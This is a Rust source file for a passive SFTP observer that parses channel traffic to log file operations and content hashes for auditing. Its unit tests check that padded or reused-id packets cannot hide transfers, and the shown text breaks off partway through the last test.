//! A passive SFTP observer: fed the bytes of an `sftp` subsystem channel in both directions, it
//! reports file operations (which path, which direction, how many bytes, the SHA-256 of what
//! was transferred, every change to the target's files) for the audit log. It never changes the
//! stream and never keeps file contents: of a WRITE or DATA packet it reads the header and
//! streams the rest through the file's hash.

use sha2::{Digest, Sha256};
use std::collections::{HashMap, VecDeque};
use std::ops::Range;

const FXP_INIT: u8 = 1;
const FXP_OPEN: u8 = 3;
const FXP_CLOSE: u8 = 4;
const FXP_READ: u8 = 5;
const FXP_WRITE: u8 = 6;
const FXP_SETSTAT: u8 = 9;
const FXP_FSETSTAT: u8 = 10;
const FXP_REMOVE: u8 = 13;
const FXP_MKDIR: u8 = 14;
const FXP_RMDIR: u8 = 15;
const FXP_RENAME: u8 = 18;
const FXP_SYMLINK: u8 = 20;
const FXP_STATUS: u8 = 101;
const FXP_HANDLE: u8 = 102;
const FXP_DATA: u8 = 103;
const FXP_NAME: u8 = 104;
const FXP_ATTRS: u8 = 105;
const FXP_EXTENDED: u8 = 200;
const FXP_EXTENDED_REPLY: u8 = 201;

const PFLAG_WRITE: u32 = 0x02;

/// The longest handle a server may give (the protocol's limit).
const MAX_HANDLE: usize = 256;
/// Other packets are buffered whole up to this size, OpenSSH's own limit for an SFTP message
/// (its server exits on a longer one): a request padded with bytes the server ignores is still
/// read, never skipped unseen.
const MAX_CONTROL_PACKET: usize = 256 * 1024;
/// Bound on tracked handles and outstanding requests, so a client cannot grow the box's memory.
const MAX_TRACKED: usize = 4096;
/// Bound on requests waiting for a reply. Past it the observer can no longer tell which request
/// a reply answers, so it stops reading replies (nothing more is matched, hashed or left out).
const MAX_OUTSTANDING: usize = 1 << 14;

/// A request waiting for its reply. The server answers every request in order, whatever its kind,
/// so every request holds its place (those the observer has no use for as `Other`) and a reply
/// takes the oldest request with its id: a reply is never matched with a request it does not
/// answer (a STATUS for a READ taken as an OPEN's failure, a directory's HANDLE as a file's).
#[derive(Debug)]
enum Waiting {
    Open(String, bool),
    Read(Vec<u8>, u64),
    Op(FileOp),
    Other,
}

/// A file operation seen on the wire.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FileOp {
    /// Bytes written to `path` (an upload, direction client → target). `sha256`: of the bytes
    /// written, when they were written in order from offset 0 (what every client does for a
    /// whole-file upload); `None` when they were not.
    Upload {
        path: String,
        bytes: u64,
        sha256: Option<String>,
    },
    /// Bytes read from `path` (a download, direction target → client), hashed the same way.
    Download {
        path: String,
        bytes: u64,
        sha256: Option<String>,
    },
    Remove {
        path: String,
        ok: bool,
    },
    Mkdir {
        path: String,
        ok: bool,
    },
    Rmdir {
        path: String,
        ok: bool,
    },
    /// A rename, the protocol's own or OpenSSH's `posix-rename@openssh.com` (`how`).
    Rename {
        from: String,
        to: String,
        how: &'static str,
        ok: bool,
    },
    /// A symbolic link at `link` pointing at `target` (OpenSSH's argument order).
    Symlink {
        target: String,
        link: String,
        ok: bool,
    },
    /// `hardlink@openssh.com`.
    Hardlink {
        from: String,
        to: String,
        ok: bool,
    },
    /// SETSTAT, FSETSTAT or `lsetstat@openssh.com`: mode, owner, size or times changed.
    Setstat {
        path: String,
        attrs: Attrs,
        ok: bool,
    },
    /// `copy-data`: the target copies between two open files without the bytes crossing the box.
    CopyData {
        from: String,
        to: String,
        bytes: u64,
        ok: bool,
    },
    /// Any other extension a client asked for (named, so nothing changes files unseen).
    Extended {
        request: String,
        ok: bool,
    },
}

/// The attributes a SETSTAT sets (only those present).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Attrs {
    pub size: Option<u64>,
    pub uid: Option<u32>,
    pub gid: Option<u32>,
    pub mode: Option<u32>,
    pub atime: Option<u32>,
    pub mtime: Option<u32>,
}

impl Attrs {
    fn read(r: &mut Reader<'_>) -> Option<Self> {
        let flags = r.u32()?;
        let mut a = Attrs::default();
        if flags & 0x1 != 0 {
            a.size = Some(r.u64()?);
        }
        if flags & 0x2 != 0 {
            a.uid = Some(r.u32()?);
            a.gid = Some(r.u32()?);
        }
        if flags & 0x4 != 0 {
            a.mode = Some(r.u32()?);
        }
        if flags & 0x8 != 0 {
            a.atime = Some(r.u32()?);
            a.mtime = Some(r.u32()?);
        }
        Some(a)
    }

    fn to_json(&self) -> serde_json::Value {
        let mut m = serde_json::Map::new();
        if let Some(v) = self.size {
            m.insert("size".into(), v.into());
        }
        if let Some(v) = self.uid {
            m.insert("uid".into(), v.into());
        }
        if let Some(v) = self.gid {
            m.insert("gid".into(), v.into());
        }
        if let Some(v) = self.mode {
            m.insert("mode".into(), format!("{:o}", v & 0o7777).into());
        }
        if let Some(v) = self.atime {
            m.insert("atime".into(), v.into());
        }
        if let Some(v) = self.mtime {
            m.insert("mtime".into(), v.into());
        }
        serde_json::Value::Object(m)
    }
}

impl FileOp {
    /// The audit event's detail.
    pub fn to_json(&self) -> serde_json::Value {
        use serde_json::json;
        match self {
            FileOp::Upload { path, bytes, sha256 } => {
                json!({ "op": "upload", "direction": "upload", "path": path, "bytes": bytes, "sha256": sha256 })
            }
            FileOp::Download { path, bytes, sha256 } => {
                json!({ "op": "download", "direction": "download", "path": path, "bytes": bytes, "sha256": sha256 })
            }
            FileOp::Remove { path, ok } => json!({ "op": "remove", "path": path, "ok": ok }),
            FileOp::Mkdir { path, ok } => json!({ "op": "mkdir", "path": path, "ok": ok }),
            FileOp::Rmdir { path, ok } => json!({ "op": "rmdir", "path": path, "ok": ok }),
            FileOp::Rename { from, to, how, ok } => {
                json!({ "op": "rename", "from": from, "to": to, "how": how, "ok": ok })
            }
            FileOp::Symlink { target, link, ok } => {
                json!({ "op": "symlink", "target": target, "link": link, "ok": ok })
            }
            FileOp::Hardlink { from, to, ok } => json!({ "op": "hardlink", "from": from, "to": to, "ok": ok }),
            FileOp::Setstat { path, attrs, ok } => {
                json!({ "op": "setstat", "path": path, "attrs": attrs.to_json(), "ok": ok })
            }
            FileOp::CopyData { from, to, bytes, ok } => {
                json!({ "op": "copy-data", "from": from, "to": to, "bytes": bytes, "ok": ok })
            }
            FileOp::Extended { request, ok } => json!({ "op": "extended", "request": request, "ok": ok }),
        }
    }

    fn set_ok(&mut self, status: bool) {
        match self {
            FileOp::Remove { ok, .. }
            | FileOp::Mkdir { ok, .. }
            | FileOp::Rmdir { ok, .. }
            | FileOp::Rename { ok, .. }
            | FileOp::Symlink { ok, .. }
            | FileOp::Hardlink { ok, .. }
            | FileOp::Setstat { ok, .. }
            | FileOp::CopyData { ok, .. }
            | FileOp::Extended { ok, .. } => *ok = status,
            FileOp::Upload { .. } | FileOp::Download { .. } => {}
        }
    }
}

/// A running hash over bytes that must arrive in order from offset 0.
#[derive(Debug, Clone)]
struct InOrder {
    hash: Option<Sha256>,
    next: u64,
}

impl Default for InOrder {
    fn default() -> Self {
        Self { hash: Some(Sha256::new()), next: 0 }
    }
}

impl InOrder {
    /// A chunk starts at `offset`: anything but the next byte breaks the hash. Returns, when it
    /// breaks, how many bytes were hashed in order and their SHA-256: bytes a `transfers hashes`
    /// policy left out of the recording keep a hash even when the file is then read or written
    /// out of order.
    fn start(&mut self, offset: u64) -> Option<(u64, String)> {
        if offset == self.next {
            return None;
        }
        let hash = self.hash.take()?;
        (self.next > 0).then(|| (self.next, hex::encode(hash.finalize())))
    }
    fn feed(&mut self, data: &[u8]) {
        if let Some(h) = self.hash.as_mut() {
            h.update(data);
        }
        self.next += data.len() as u64;
    }
    fn finish(self) -> Option<String> {
        self.hash.map(|h| hex::encode(h.finalize()))
    }
}

#[derive(Debug)]
struct OpenFile {
    path: String,
    writable: bool,
    written: InOrder,
    read: InOrder,
    wrote_any: bool,
    read_any: bool,
}

/// One direction's packet framing.
#[derive(Debug, Default)]
struct Framer {
    buf: Vec<u8>,
    /// Body bytes of the current packet still to be streamed through without buffering.
    skip: usize,
    /// Stream bytes fed so far, and where the packet being read started.
    pos: u64,
    start: u64,
}

/// A packet's type and the part of its body that was kept (all of it, or a bulk packet's prefix).
struct Packet<'a> {
    kind: u8,
    body: &'a [u8],
    /// Where in the stream the packet starts (its length field), and its whole body's length.
    start: u64,
    total: usize,
}

impl Packet<'_> {
    /// The stream range of `declared` payload bytes that start where `r` stands in the body
    /// (cut to the packet).
    fn payload(&self, r: &Reader<'_>, declared: u32) -> (u64, u64) {
        let at = self.body.len() - r.0.len();
        let from = self.start + 5 + at as u64;
        (from, from + u64::from(declared).min(self.total.saturating_sub(at) as u64))
    }
}

/// What the framer hands on: a packet (whole, or a bulk packet's prefix), then for a bulk packet
/// the rest of its body in pieces.
enum Piece<'a> {
    Packet(Packet<'a>),
    Rest(&'a [u8]),
}

impl Framer {
    /// Feeds bytes, calling `f` for each packet as soon as enough of it is known, and for the
    /// rest of a bulk packet's body as it streams by.
    fn feed(&mut self, mut data: &[u8], mut f: impl FnMut(Piece<'_>)) {
        loop {
            if self.skip > 0 {
                let n = self.skip.min(data.len());
                if n > 0 {
                    f(Piece::Rest(&data[..n]));
                }
                self.skip -= n;
                self.pos += n as u64;
                data = &data[n..];
                if self.skip > 0 {
                    return;
                }
            }
            if self.buf.is_empty() {
                self.start = self.pos;
            }
            // Take only what the current packet needs, so bulk payloads are never copied.
            let want = self.wanted();
            if self.buf.len() < want {
                if data.is_empty() {
                    return;
                }
                let take = (want - self.buf.len()).min(data.len());
                self.buf.extend_from_slice(&data[..take]);
                self.pos += take as u64;
                data = &data[take..];
                continue;
            }
            let len = u32::from_be_bytes([self.buf[0], self.buf[1], self.buf[2], self.buf[3]]) as usize;
            let kind = self.buf[4];
            let body_total = len.saturating_sub(1);
            let kept = &self.buf[5..];
            f(Piece::Packet(Packet { kind, body: kept, start: self.start, total: body_total }));
            self.skip = body_total - kept.len();
            self.buf.clear();
        }
    }

    /// How many bytes of the current packet to buffer.
    fn wanted(&self) -> usize {
        if self.buf.len() < 5 {
            return 5;
        }
        let len = u32::from_be_bytes([self.buf[0], self.buf[1], self.buf[2], self.buf[3]]) as usize;
        let body = len.saturating_sub(1);
        let keep = match self.buf[4] {
            // Exactly the fields before the payload (id, handle, offset, length), never payload
            // bytes: the payload is known to be file content before any of it is passed on.
            FXP_WRITE if self.buf.len() < 5 + 8 => body.min(8),
            FXP_WRITE => {
                let handle = u32::from_be_bytes([self.buf[9], self.buf[10], self.buf[11], self.buf[12]]) as usize;
                body.min(8 + handle.min(MAX_HANDLE) + 12)
            }
            FXP_DATA => body.min(8),
            _ if body > MAX_CONTROL_PACKET => 0,
            _ => body,
        };
        5 + keep
    }
}

/// Reads SSH-style fields from a packet body.
struct Reader<'a>(&'a [u8]);

impl<'a> Reader<'a> {
    fn u32(&mut self) -> Option<u32> {
        let (head, rest) = self.0.split_first_chunk::<4>()?;
        self.0 = rest;
        Some(u32::from_be_bytes(*head))
    }
    fn u64(&mut self) -> Option<u64> {
        let (head, rest) = self.0.split_first_chunk::<8>()?;
        self.0 = rest;
        Some(u64::from_be_bytes(*head))
    }
    fn bytes(&mut self) -> Option<&'a [u8]> {
        let n = self.u32()? as usize;
        if n > self.0.len() {
            return None;
        }
        let (s, rest) = self.0.split_at(n);
        self.0 = rest;
        Some(s)
    }
    fn string(&mut self) -> Option<String> {
        self.bytes().map(|b| String::from_utf8_lossy(b).into_owned())
    }
}

/// Observes one SFTP channel. Feed client bytes to [`SftpObserver::client`] and target bytes to
/// [`SftpObserver::server`]; each returns the operations it completed.
#[derive(Debug, Default)]
pub struct SftpObserver {
    to_server: Framer,
    to_client: Framer,
    /// Requests waiting for their reply, a queue per request id (a client may reuse an id, and
    /// the server answers in order), how many there are, and whether their order was lost.
    outstanding: HashMap<u32, VecDeque<Waiting>>,
    waiting: usize,
    lost: bool,
    files: HashMap<Vec<u8>, OpenFile>,
    /// The handle whose payload is streaming by, per direction, and how many of the bytes still
    /// to come are the payload its length field declared (the rest the peer ignores).
    up: Option<(Vec<u8>, u64)>,
    down: Option<(Vec<u8>, u64)>,
    /// Stream ranges, per direction, that are the content of a file being hashed.
    up_content: VecDeque<(u64, u64)>,
    down_content: VecDeque<(u64, u64)>,
}

/// The parts of `start..start+len` of a stream that `ranges` (in stream order) cover, relative
/// to `start`; ranges wholly passed are dropped.
fn take_ranges(ranges: &mut VecDeque<(u64, u64)>, start: u64, len: usize) -> Vec<Range<usize>> {
    let end = start + len as u64;
    let mut out = Vec::new();
    while let Some(&(a, b)) = ranges.front() {
        if a >= end {
            break;
        }
        let (lo, hi) = (a.max(start), b.min(end));
        if lo < hi {
            out.push((lo - start) as usize..(hi - start) as usize);
        }
        if b > end {
            break;
        }
        ranges.pop_front();
    }
    out
}

impl SftpObserver {
    /// [`SftpObserver::client`], also saying which bytes of `data` are the content of a file
    /// whose hash is being taken (what a `transfers hashes` policy leaves out of the recording).
    pub fn client_masked(&mut self, data: &[u8]) -> (Vec<FileOp>, Vec<Range<usize>>) {
        let start = self.to_server.pos;
        let ops = self.client(data);
        (ops, take_ranges(&mut self.up_content, start, data.len()))
    }

    /// [`SftpObserver::server`] with the content ranges, as [`SftpObserver::client_masked`].
    pub fn server_masked(&mut self, data: &[u8]) -> (Vec<FileOp>, Vec<Range<usize>>) {
        let start = self.to_client.pos;
        let ops = self.server(data);
        (ops, take_ranges(&mut self.down_content, start, data.len()))
    }

    /// Bytes from the client (requests).
    pub fn client(&mut self, data: &[u8]) -> Vec<FileOp> {
        let mut out = Vec::new();
        let Self { to_server, outstanding, waiting, lost, files, up, up_content, .. } = self;
        to_server.feed(data, |piece| {
            let p = match piece {
                Piece::Rest(bytes) => {
                    if let Some((h, left)) = up.as_mut()
                        && let Some(file) = files.get_mut(h.as_slice())
                    {
                        let n = (*left).min(bytes.len() as u64) as usize;
                        file.written.feed(&bytes[..n]);
                        *left -= n as u64;
                    }
                    return;
                }
                Piece::Packet(p) => p,
            };
            *up = None;
            if p.kind == FXP_INIT {
                return; // its VERSION reply carries no id
            }
            // A request of a kind the protocol does not have may or may not be answered (OpenSSH
            // answers nothing, others a STATUS): the order of replies is no longer known.
            if !matches!(p.kind, FXP_OPEN..=FXP_SYMLINK | FXP_EXTENDED) {
                *lost = true;
                outstanding.clear();
                return;
            }
            let mut r = Reader(p.body);
            let Some(id) = r.u32() else { return };
            // What this request waits for; every request holds a place in the queue.
            let mut entry = Waiting::Other;
            let path_of = |files: &HashMap<Vec<u8>, OpenFile>, h: &[u8]| {
                files.get(h).map(|f| f.path.clone()).unwrap_or_else(|| "(unknown handle)".into())
            };
            match p.kind {
                FXP_OPEN => {
                    if let (Some(path), Some(flags)) = (r.string(), r.u32()) {
                        entry = Waiting::Open(path, flags & PFLAG_WRITE != 0);
                    }
                }
                FXP_WRITE => {
                    // id, handle, offset (8), data length (4) then data
                    if let Some(handle) = r.bytes()
                        && let (Some(offset), Some(declared)) = (r.u64(), r.u32())
                        && let Some(file) = files.get_mut(handle)
                    {
                        file.wrote_any = true;
                        if let Some((bytes, sha256)) = file.written.start(offset) {
                            out.push(FileOp::Upload { path: file.path.clone(), bytes, sha256: Some(sha256) });
                        }
                        // Only bytes that go into the file's hash may be left out of a recording.
                        if file.written.hash.is_some() && up_content.len() < MAX_TRACKED {
                            up_content.push_back(p.payload(&r, declared));
                        }
                        let here = (declared as usize).min(r.0.len());
                        file.written.feed(&r.0[..here]);
                        *up = Some((handle.to_vec(), u64::from(declared) - here as u64));
                    }
                }
                FXP_READ => {
                    if let (Some(handle), Some(offset)) = (r.bytes(), r.u64()) {
                        entry = Waiting::Read(handle.to_vec(), offset);
                    }
                }
                FXP_CLOSE => {
                    if let Some(file) = r.bytes().and_then(|h| files.remove(h)) {
                        out.extend(file_ops(file));
                    }
                }
                FXP_REMOVE | FXP_MKDIR | FXP_RMDIR => {
                    if let Some(path) = r.string() {
                        let op = match p.kind {
                            FXP_REMOVE => FileOp::Remove { path, ok: false },
                            FXP_MKDIR => FileOp::Mkdir { path, ok: false },
                            _ => FileOp::Rmdir { path, ok: false },
                        };
                        entry = Waiting::Op(op);
                    }
                }
                FXP_RENAME => {
                    if let (Some(from), Some(to)) = (r.string(), r.string()) {
                        entry = Waiting::Op(FileOp::Rename { from, to, how: "rename", ok: false });
                    }
                }
                FXP_SYMLINK => {
                    if let (Some(target), Some(link)) = (r.string(), r.string()) {
                        entry = Waiting::Op(FileOp::Symlink { target, link, ok: false });
                    }
                }
                FXP_SETSTAT => {
                    if let Some(path) = r.string() {
                        let attrs = Attrs::read(&mut r).unwrap_or_default();
                        entry = Waiting::Op(FileOp::Setstat { path, attrs, ok: false });
                    }
                }
                FXP_FSETSTAT => {
                    if let Some(handle) = r.bytes() {
                        let path = path_of(files, handle);
                        let attrs = Attrs::read(&mut r).unwrap_or_default();
                        entry = Waiting::Op(FileOp::Setstat { path, attrs, ok: false });
                    }
                }
                FXP_EXTENDED => {
                    let request = r.string().unwrap_or_default();
                    let op = match request.as_str() {
                        "posix-rename@openssh.com" => r.string().zip(r.string()).map(|(from, to)| FileOp::Rename {
                            from,
                            to,
                            how: "posix-rename",
                            ok: false,
                        }),
                        "hardlink@openssh.com" => {
                            r.string().zip(r.string()).map(|(from, to)| FileOp::Hardlink { from, to, ok: false })
                        }
                        "lsetstat@openssh.com" => r.string().map(|path| {
                            let attrs = Attrs::read(&mut r).unwrap_or_default();
                            FileOp::Setstat { path, attrs, ok: false }
                        }),
                        "copy-data" => (|| {
                            let from = r.bytes()?;
                            let (_, len) = (r.u64()?, r.u64()?);
                            let to = r.bytes()?;
                            Some(FileOp::CopyData {
                                from: path_of(files, from),
                                to: path_of(files, to),
                                bytes: len,
                                ok: false,
                            })
                        })(),
                        // Queries that change nothing on the target.
                        "statvfs@openssh.com"
                        | "fstatvfs@openssh.com"
                        | "limits@openssh.com"
                        | "expand-path@openssh.com"
                        | "home-directory"
                        | "users-groups-by-id@openssh.com"
                        | "fsync@openssh.com" => None,
                        _ => Some(FileOp::Extended { request, ok: false }),
                    };
                    if let Some(op) = op {
                        entry = Waiting::Op(op);
                    }
                }
                _ => {}
            }
            queue_request(outstanding, waiting, lost, id, entry);
        });
        out
    }

    /// Bytes from the target (responses).
    pub fn server(&mut self, data: &[u8]) -> Vec<FileOp> {
        let mut out = Vec::new();
        let Self { to_client, outstanding, waiting, lost, files, down, down_content, .. } = self;
        to_client.feed(data, |piece| {
            let p = match piece {
                Piece::Rest(bytes) => {
                    if let Some((h, left)) = down.as_mut()
                        && let Some(file) = files.get_mut(h.as_slice())
                    {
                        let n = (*left).min(bytes.len() as u64) as usize;
                        file.read.feed(&bytes[..n]);
                        *left -= n as u64;
                    }
                    return;
                }
                Piece::Packet(p) => p,
            };
            *down = None;
            // Replies are matched only while every request's place is known.
            if *lost
                || !matches!(p.kind, FXP_STATUS | FXP_HANDLE | FXP_DATA | FXP_NAME | FXP_ATTRS | FXP_EXTENDED_REPLY)
            {
                return;
            }
            let mut r = Reader(p.body);
            let Some(id) = r.u32() else { return };
            // Every reply answers the oldest request with its id, whatever it was.
            let Some(request) = take(outstanding, id) else { return };
            *waiting -= 1;
            match (p.kind, request) {
                (FXP_HANDLE, Waiting::Open(path, writable)) => {
                    if let Some(handle) = r.bytes() {
                        let file = OpenFile {
                            path,
                            writable,
                            written: InOrder::default(),
                            read: InOrder::default(),
                            wrote_any: false,
                            read_any: false,
                        };
                        if files.len() < MAX_TRACKED {
                            files.insert(handle.to_vec(), file);
                        }
                    }
                }
                (FXP_DATA, Waiting::Read(handle, offset)) => {
                    if let Some(declared) = r.u32()
                        && let Some(file) = files.get_mut(&handle)
                    {
                        file.read_any = true;
                        if let Some((bytes, sha256)) = file.read.start(offset) {
                            out.push(FileOp::Download { path: file.path.clone(), bytes, sha256: Some(sha256) });
                        }
                        if file.read.hash.is_some() && down_content.len() < MAX_TRACKED {
                            down_content.push_back(p.payload(&r, declared));
                        }
                        let here = (declared as usize).min(r.0.len());
                        file.read.feed(&r.0[..here]);
                        *down = Some((handle, u64::from(declared) - here as u64));
                    }
                }
                (FXP_STATUS, Waiting::Op(mut op)) => {
                    op.set_ok(r.u32() == Some(0));
                    out.push(op);
                }
                _ => {}
            }
        });
        out
    }

    /// Files still open when the channel ended (the client vanished mid-transfer).
    pub fn finish(&mut self) -> Vec<FileOp> {
        let mut files: Vec<_> = self.files.drain().map(|(_, f)| f).collect();
        files.sort_by(|a, b| a.path.cmp(&b.path));
        files.into_iter().flat_map(file_ops).collect()
    }
}

fn file_ops(file: OpenFile) -> Vec<FileOp> {
    let mut ops = Vec::new();
    let (written, read) = (file.written.next, file.read.next);
    if file.writable || file.wrote_any {
        let sha256 = file.written.finish();
        ops.push(FileOp::Upload { path: file.path.clone(), bytes: written, sha256 });
    }
    if file.read_any || !file.writable {
        let sha256 = file.read.finish();
        ops.push(FileOp::Download { path: file.path, bytes: read, sha256 });
    }
    ops
}

/// Queues a request for its reply. Past [`MAX_TRACKED`] waiting requests new ones only hold their
/// place (no paths or handles kept); past [`MAX_OUTSTANDING`] the order is given up for good.
fn queue_request(map: &mut HashMap<u32, VecDeque<Waiting>>, waiting: &mut usize, lost: &mut bool, id: u32, w: Waiting) {
    if *lost {
        return;
    }
    if *waiting >= MAX_OUTSTANDING {
        *lost = true;
        map.clear();
        return;
    }
    let w = if *waiting >= MAX_TRACKED { Waiting::Other } else { w };
    map.entry(id).or_default().push_back(w);
    *waiting += 1;
}

/// The oldest outstanding request with `id`.
fn take<V>(map: &mut HashMap<u32, VecDeque<V>>, id: u32) -> Option<V> {
    let queue = map.get_mut(&id)?;
    let v = queue.pop_front();
    if queue.is_empty() {
        map.remove(&id);
    }
    v
}

#[cfg(test)]
mod tests {
    use super::*;

    fn packet(kind: u8, body: &[u8]) -> Vec<u8> {
        let mut p = ((body.len() + 1) as u32).to_be_bytes().to_vec();
        p.push(kind);
        p.extend_from_slice(body);
        p
    }
    fn s(v: &[u8]) -> Vec<u8> {
        let mut out = (v.len() as u32).to_be_bytes().to_vec();
        out.extend_from_slice(v);
        out
    }
    fn body(parts: &[&[u8]]) -> Vec<u8> {
        parts.concat()
    }

    /// Feeds `data` one byte at a time and all at once; both must agree.
    fn both(data: &[u8], f: impl Fn(&mut SftpObserver, &[u8]) -> Vec<FileOp>) -> Vec<FileOp> {
        let mut a = SftpObserver::default();
        let whole = f(&mut a, data);
        let mut b = SftpObserver::default();
        let split: Vec<FileOp> = data.chunks(1).flat_map(|c| f(&mut b, c)).collect();
        assert_eq!(whole, split);
        whole
    }

    #[test]
    fn upload_and_download_sizes() {
        let mut o = SftpObserver::default();
        let open_w = packet(FXP_OPEN, &body(&[&1u32.to_be_bytes(), &s(b"/tmp/up"), &0x1au32.to_be_bytes(), &[0; 4]]));
        assert!(o.client(&open_w).is_empty());
        o.server(&packet(FXP_HANDLE, &body(&[&1u32.to_be_bytes(), &s(b"h1")])));
        let payload = vec![7u8; 100_000];
        let write = packet(FXP_WRITE, &body(&[&2u32.to_be_bytes(), &s(b"h1"), &0u64.to_be_bytes(), &s(&payload)]));
        let close = packet(FXP_CLOSE, &body(&[&3u32.to_be_bytes(), &s(b"h1")]));
        let mut stream = write.clone();
        stream.extend_from_slice(&write);
        stream.extend_from_slice(&close);
        let ops: Vec<_> = stream.chunks(977).flat_map(|c| o.client(c)).collect();
        let first = Some(hex::encode(Sha256::digest(&payload)));
        assert_eq!(
            ops,
            vec![
                FileOp::Upload { path: "/tmp/up".into(), bytes: 100_000, sha256: first },
                FileOp::Upload { path: "/tmp/up".into(), bytes: 200_000, sha256: None },
            ],
            "offset 0 twice is no file in order: the in-order part keeps its hash, the whole gets none rather than a wrong one"
        );

        o.client(&packet(FXP_OPEN, &body(&[&4u32.to_be_bytes(), &s(b"/etc/hosts"), &1u32.to_be_bytes(), &[0; 4]])));
        o.server(&packet(FXP_HANDLE, &body(&[&4u32.to_be_bytes(), &s(b"h2")])));
        o.client(&packet(
            FXP_READ,
            &body(&[&5u32.to_be_bytes(), &s(b"h2"), &0u64.to_be_bytes(), &4096u32.to_be_bytes()]),
        ));
        o.server(&packet(FXP_DATA, &body(&[&5u32.to_be_bytes(), &s(&[1; 321])])));
        let sha = Some(hex::encode(Sha256::digest([1u8; 321])));
        assert_eq!(o.finish(), vec![FileOp::Download { path: "/etc/hosts".into(), bytes: 321, sha256: sha }]);
    }

    #[test]
    fn uploads_in_order_carry_the_content_hash_whatever_the_split() {
        let content: Vec<u8> = (0..300_000u32).map(|i| (i * 7 % 251) as u8).collect();
        let open = packet(FXP_OPEN, &body(&[&1u32.to_be_bytes(), &s(b"/up"), &0x1au32.to_be_bytes(), &[0; 4]]));
        let handle = packet(FXP_HANDLE, &body(&[&1u32.to_be_bytes(), &s(b"h")]));
        let mut stream = Vec::new();
        for (i, chunk) in content.chunks(32_768).enumerate() {
            let off = (i * 32_768) as u64;
            let id = (2 + i as u32).to_be_bytes();
            stream.extend(packet(FXP_WRITE, &body(&[&id, &s(b"h"), &off.to_be_bytes(), &s(chunk)])));
        }
        stream.extend(packet(FXP_CLOSE, &body(&[&99u32.to_be_bytes(), &s(b"h")])));
        let sha256 = Some(hex::encode(Sha256::digest(&content)));
        let want = FileOp::Upload { path: "/up".into(), bytes: 300_000, sha256 };
        for split in [1, 7, 1000, stream.len()] {
            let mut o = SftpObserver::default();
            let mut ops = o.client(&open);
            ops.extend(o.server(&handle));
            for c in stream.chunks(split) {
                ops.extend(o.client(c));
            }
            assert_eq!(ops, vec![want.clone()], "split {split}");
        }
    }

    /// What `transfers hashes` leaves out of a recording is exactly the hashed content, in both
    /// directions and whatever the split; everything else (requests, replies) is kept.
    #[test]
    fn masks_cover_exactly_the_hashed_content() {
        let content: Vec<u8> = (0..100_000u32).map(|i| (i * 13 % 253) as u8).collect();
        let open = packet(FXP_OPEN, &body(&[&1u32.to_be_bytes(), &s(b"/f"), &0x1au32.to_be_bytes(), &[0; 4]]));
        let handle = packet(FXP_HANDLE, &body(&[&1u32.to_be_bytes(), &s(b"h")]));
        let mut up = Vec::new();
        let mut reads = Vec::new();
        let mut down = handle.clone();
        for (i, chunk) in content.chunks(32_768).enumerate() {
            let off = (i * 32_768) as u64;
            let id = (2 + i as u32).to_be_bytes();
            up.extend(packet(FXP_WRITE, &body(&[&id, &s(b"h"), &off.to_be_bytes(), &s(chunk)])));
            // The WRITEs' STATUS replies are not fed: the READs take ids of their own.
            let rid = (100 + i as u32).to_be_bytes();
            reads.extend(packet(FXP_READ, &body(&[&rid, &s(b"h"), &off.to_be_bytes(), &32_768u32.to_be_bytes()])));
            down.extend(packet(FXP_DATA, &body(&[&rid, &s(chunk)])));
        }
        let kept = |data: &[u8], masks: &[Range<usize>]| -> (Vec<u8>, Vec<u8>) {
            let (mut kept, mut left) = (Vec::new(), Vec::new());
            let mut at = 0;
            for m in masks {
                kept.extend_from_slice(&data[at..m.start]);
                left.extend_from_slice(&data[m.clone()]);
                at = m.end;
            }
            kept.extend_from_slice(&data[at..]);
            (kept, left)
        };
        for split in [1, 5, 4096, 1 << 20] {
            let mut o = SftpObserver::default();
            let (mut up_kept, mut up_left) = (Vec::new(), Vec::new());
            for c in open.chunks(split) {
                assert!(o.client_masked(c).1.is_empty(), "an OPEN is no content");
            }
            assert!(o.server_masked(&handle).1.is_empty());
            for c in up.chunks(split) {
                let (_, masks) = o.client_masked(c);
                let (k, l) = kept(c, &masks);
                up_kept.extend(k);
                up_left.extend(l);
            }
            assert!(up_left == content, "split {split}: the upload's content, nothing more ({} bytes)", up_left.len());
            assert_eq!(up_kept.len(), up.len() - content.len());
            o.client(&reads);
            let (mut down_left, mut down_kept) = (Vec::new(), 0);
            for c in down[handle.len()..].chunks(split) {
                let (_, masks) = o.server_masked(c);
                let (k, l) = kept(c, &masks);
                down_kept += k.len();
                down_left.extend(l);
            }
            assert!(down_left == content, "split {split}: the download's content ({} bytes)", down_left.len());
            assert_eq!(down_kept, down.len() - handle.len() - content.len());
        }
    }

    #[test]
    fn padding_reused_ids_and_trailing_bytes_do_not_blind_or_fool_the_observer() {
        // An OPEN padded past 64 KiB (the server ignores what follows its fields) is still read.
        let mut o = SftpObserver::default();
        let mut open = body(&[&1u32.to_be_bytes(), &s(b"/etc/secret"), &1u32.to_be_bytes(), &[0; 4]]);
        open.extend(vec![b'x'; 70_000]);
        o.client(&packet(FXP_OPEN, &open));
        o.server(&packet(FXP_HANDLE, &body(&[&1u32.to_be_bytes(), &s(b"h1")])));
        o.client(&packet(
            FXP_READ,
            &body(&[&2u32.to_be_bytes(), &s(b"h1"), &0u64.to_be_bytes(), &100u32.to_be_bytes()]),
        ));
        o.server(&packet(FXP_DATA, &body(&[&2u32.to_be_bytes(), &s(b"top secret")])));
        let ops = o.client(&packet(FXP_CLOSE, &body(&[&3u32.to_be_bytes(), &s(b"h1")])));
        let sha = Some(hex::encode(Sha256::digest(b"top secret")));
        assert_eq!(ops, vec![FileOp::Download { path: "/etc/secret".into(), bytes: 10, sha256: sha }]);

        // Two OPENs with one id: the replies go to the requests in order.
        let mut o = SftpObserver::default();
        let open =
            |path: &[u8]| packet(FXP_OPEN, &body(&[&7u32.to_be_bytes(), &s(path), &1u32.to_be_bytes(), &[0; 4]]));
        o.client(&[open(b"/innocent"), open(b"/secret")].concat());
        o.server(&packet(FXP_HANDLE, &body(&[&7u32.to_be_bytes(), &s(b"a")])));
        o.server(&packet(FXP_HANDLE, &body(&[&7u32.to_be_bytes(), &s(b"b")])));
        let paths: Vec<String> = o
            .finish()
            .into_iter()
            .map(|op| match op {
                FileOp::Download { path, .. } => path,
                other => panic!("{other:?}"),
            })
            .collect();
        assert_eq!(paths, vec!["/innocent".to_owned(), "/secret".to_owned()]);

        // A WRITE declaring 0 bytes with trailing bytes writes nothing: they are not hashed.
        let mut o = SftpObserver::default();
